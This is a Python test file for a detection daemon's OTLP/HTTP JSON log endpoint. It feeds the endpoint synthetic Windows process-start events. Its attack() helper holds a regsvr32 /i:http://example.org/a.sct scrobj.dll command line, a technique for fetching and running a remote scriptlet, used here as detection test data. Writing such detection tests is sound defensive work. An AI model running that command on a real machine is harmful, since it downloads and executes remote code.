"""OpenTelemetry's protocol over HTTP, as JSON: POST /v1/logs."""
import gzip
import http.client
import json
import unittest

import harness


def typed(value):
    """A value that says its type, as OTLP has it."""
    if isinstance(value, dict):
        return {"kvlistValue": {"values": [{"key": k, "value": typed(v)} for k, v in value.items()]}}
    if isinstance(value, int):
        return {"intValue": str(value)}
    return {"stringValue": value}


def log(n, command):
    """What the Collector's receiver for Windows' event log makes of the start of a process."""
    return {"timeUnixNano": "1714979289123456700", "severityNumber": 9, "severityText": "Information",
            "body": typed({"event_id": {"qualifiers": 0, "id": 4688}, "channel": "Security", "computer": f"ws-{n}.example.org",
                           "provider": {"name": "Microsoft-Windows-Security-Auditing"}, "record_id": n,
                           "event_data": {"NewProcessName": "C:\\Windows\\System32\\regsvr32.exe", "CommandLine": command}})}


def attack(n):
    return log(n, "regsvr32 /s /n /u /i:http://example.org/a.sct scrobj.dll")


def request(logs):
    """In two scopes of one resource."""
    scopes = [{"scope": {"name": "x"}, "logRecords": part} for part in (logs[:1], logs[1:])]
    return json.dumps({"resourceLogs": [{"resource": {"attributes": []}, "scopeLogs": scopes}]}).encode()


class Otlp(harness.Case):
    def start(self, options=""):
        upstream = self.upstream()
        d = self.daemon(f"inputs:\n  - type: http\n    listen: 127.0.0.1:0\n{options}", inputs=False, upstream=upstream)
        c = http.client.HTTPConnection("127.0.0.1", d.port("http"), timeout=harness.DEADLINE)
        self.addCleanup(c.close)
        return d, upstream, c

    def post(self, c, body, status=200, path="/v1/logs", kind="application/json", **headers):
        c.request("POST", path, body, {"Content-Type": kind, **headers})
        r = c.getresponse()
        answer = r.read()
        self.assertEqual(r.status, status, answer)
        self.assertEqual(r.getheader("Content-Type"), "application/json")
        return json.loads(answer)

    def test_each_log_record_is_an_event(self):
        d, upstream, c = self.start()
        logs = [attack(0), log(1, "regsvr32 /s msxml3.dll"), attack(2), attack(3)]
        self.assertEqual(self.post(c, request(logs)), {})
        self.assertEqual(self.post(c, gzip.compress(request(logs)), **{"Content-Encoding": "gzip"}), {})
        self.assertEqual(self.post(c, b'{"resourceLogs":[{"scopeLogs":[{"logRecords":[{"body":regsvr32}]}]}]}'), {"partialSuccess": {
            "rejectedLogRecords": "1", "errorMessage": "1 malformed, 0 longer than max_record"}})
        upstream.expect(6)
        self.assertEqual({a["host"]["name"] for a in upstream.alerts()}, {f"ws-{n}.example.org" for n in (0, 2, 3)})
        self.assertEqual({a["squibly"]["shape"] for a in upstream.alerts()}, {"otel"})
        counted = self.assert_stops(d, 9)
        self.assertEqual((counted["alerted"], counted["malformed"]), (6, 1))

    def test_what_is_too_long_is_told(self):
        d, _, c = self.start("    max_record: 4KiB\n")
        answer = self.post(c, request([attack(n) for n in range(50)]))
        self.assertEqual(answer, {"partialSuccess": {"rejectedLogRecords": "1",
                                                     "errorMessage": "0 malformed, 1 longer than max_record"}})
        self.assertEqual(self.assert_stops(d, 1)["oversized"], 1)

    def test_protobuf_is_refused_and_says_what_to_do(self):
        d, _, c = self.start()
        for path in ("/v1/logs", "/events"):
            answer = self.post(c, b"\x0a\x00", 415, path, "application/x-protobuf")
            self.assertIn("JSON", answer["message" if path == "/v1/logs" else "error"])
        self.assert_stops(d, 0)

    def test_without_the_option_there_is_no_such_path(self):
        d, _, c = self.start("    otlp: false\n")
        self.post(c, request([attack(0)]), 404)
        self.assert_stops(d, 0)


if __name__ == "__main__":
    unittest.main()
